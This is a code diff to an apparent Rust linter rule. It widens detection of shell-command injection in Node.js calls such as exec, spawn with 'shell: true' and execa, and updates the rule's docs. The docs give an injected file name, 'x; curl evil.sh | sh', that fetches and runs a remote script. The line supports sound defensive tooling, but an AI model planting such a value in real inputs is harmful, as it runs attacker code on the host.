@@ -289,45 +289,135 @@ fn check_remote<'a>(checker: &mut Checker<'a>, func: Node<'a>, args: Node<'a>) {
         .with_taint(&taint);
 }
 
-const JS_SHELL: &[&str] = &["child_process.exec", "child_process.execSync"];
+const JS_SHELL: &[&str] = &[
+    "child_process.exec",
+    "child_process.execSync",
+    "shelljs.exec",
+];
+
+/// `JS_SHELL` and the functions that run a program with an argument list (and a shell only
+/// with `shell: true`).
+const JS_ALL: &[&str] = &[
+    "child_process.exec",
+    "child_process.execSync",
+    "shelljs.exec",
+    "child_process.execFile",
+    "child_process.execFileSync",
+    "child_process.spawn",
+    "child_process.spawnSync",
+    "execa",
+    "execa.execa",
+    "execa.execaSync",
+];
+
+/// Whether an options object says `shell: true` (or names a shell).
+fn js_shell_option(checker: &Checker, options: Node) -> bool {
+    options.kind() == "object"
+        && named_children(options).into_iter().any(|p| {
+            p.kind() == "pair"
+                && p.child_by_field_name("key")
+                    .is_some_and(|k| checker.text(k).trim_matches(['"', '\'']) == "shell")
+                && p.child_by_field_name("value")
+                    .is_some_and(|v| v.kind() != "false" && checker.text(v) != "undefined")
+        })
+}
 
 fn check_javascript<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
     let (Some(func), Some(args)) = (caps.get("func"), caps.get("args")) else {
         return;
     };
-    let Some(name) = checker.resolve_callee(func, JS_SHELL) else {
+    let Some(name) = checker.resolve_callee(func, JS_ALL) else {
         return;
     };
-    if !JS_SHELL.contains(&name.as_str()) {
+    let args: Vec<Node> = named_children(args)
+        .into_iter()
+        .filter(|a| a.kind() != "comment")
+        .collect();
+    let Some(cmd) = args.first().copied() else {
+        return;
+    };
+    let method = name.rsplit('.').next().unwrap_or("exec");
+    if JS_SHELL.contains(&name.as_str()) {
+        let Some(taint) = checker.taint(cmd, Sink::Shell) else {
+            return;
+        };
+        let file = if method == "execSync" {
+            "execFileSync"
+        } else {
+            "execFile"
+        };
+        let text = super::callee(checker.text(cmd));
+        let from = checker.describe(&taint);
+        checker
+            .report(func, format!(
+                "`{method}` runs `{text}` through a shell, built from {from}; use `{file}(program, [args])`, which passes arguments without a shell"
+            ))
+            .with_taint(&taint);
         return;
     }
-    let Some(cmd) = named_children(args)
-        .into_iter()
-        .find(|a| a.kind() != "comment")
+    // `spawn(program, [args], { shell: true })`: the program and the arguments are joined
+    // into one shell command.
+    let list = args.get(1).copied().filter(|a| a.kind() == "array");
+    let shell = args.iter().skip(1).any(|a| js_shell_option(checker, *a));
+    if shell {
+        let mut parts = vec![cmd];
+        parts.extend(list.map(named_children).unwrap_or_default());
+        let taint = parts.into_iter().fold(None, |best, e| {
+            Taint::best(best, checker.taint(e, Sink::Shell))
+        });
+        if let Some(taint) = taint {
+            let from = checker.describe(&taint);
+            checker
+                .report(func, format!(
+                    "`{method}` is called with `shell: true` and a command built from {from}; drop `shell: true` so the arguments reach the program unparsed"
+                ))
+                .with_taint(&taint);
+        }
+        return;
+    }
+    // Without a shell only a client-chosen program, or a client's script for `sh -c`, is an
+    // injection.
+    let program = crate::analysis::string_value(checker.language, cmd, checker.source);
+    let elements = list.map(named_children).unwrap_or_default();
+    let (node, what) = match program {
+        Some(p) if SHELLS.contains(&p) => {
+            let Some(script) = elements
+                .iter()
+                .position(|e| {
+                    crate::analysis::string_value(checker.language, *e, checker.source)
+                        == Some("-c")
+                })
+                .and_then(|i| elements.get(i + 1).copied())
+            else {
+                return;
+            };
+            (script, "a shell script (`-c`)")
+        }
+        Some(_) => return,
+        None => (cmd, "the program"),
+    };
+    let Some(taint) = checker
+        .taint(node, Sink::Shell)
+        .filter(|t| t.user && !t.what.contains("argv"))
     else {
         return;
     };
-    if checker.is_constant(cmd, Sink::Shell) {
-        return;
-    }
-    let method = name.rsplit('.').next().unwrap_or("exec");
-    let file = if method == "execSync" {
-        "execFileSync"
-    } else {
-        "execFile"
-    };
-    let text = super::callee(checker.text(cmd));
-    checker.report(func, format!(
-        "`{method}` runs `{text}` through a shell, and it is built from non-constant data; use `{file}(program, [args])`, which passes arguments without a shell"
-    ));
+    let from = checker.describe(&taint);
+    checker
+        .report(func, format!(
+            "`{method}` takes {what} from {from}; choose the program from a fixed table and pass client data only as separate arguments"
+        ))
+        .with_taint(&taint);
 }
 
 const DOCS: &str = r#"## What it does
 Flags shell commands assembled from data the code does not fix: `os.system`, `os.popen`,
 `subprocess.getoutput`, `subprocess.*(…, shell=True)` in Python, and `child_process.exec` /
-`execSync` in Node. Commands made only of constants, or whose variable parts pass through
-`shlex.quote`, are not reported; neither is `subprocess.run([...])` without a shell or
-`execFile`/`spawn` without `shell: true`.
+`execSync` (and `shelljs.exec`) in Node, when the command holds request data or a function's
+own parameters. `spawn`/`execFile` with `shell: true` are judged the same way; without a shell
+they are reported only when the client chooses the program, or the script of `sh -c`. Commands
+made only of constants, or whose variable parts pass through `shlex.quote` or `parseInt`, are
+not reported; neither is `subprocess.run([...])` without a shell.
 
 ## Why is this bad?
 A shell interprets `;`, `|`, `$(…)` and backticks. A file name like `x; curl evil.sh | sh` turns
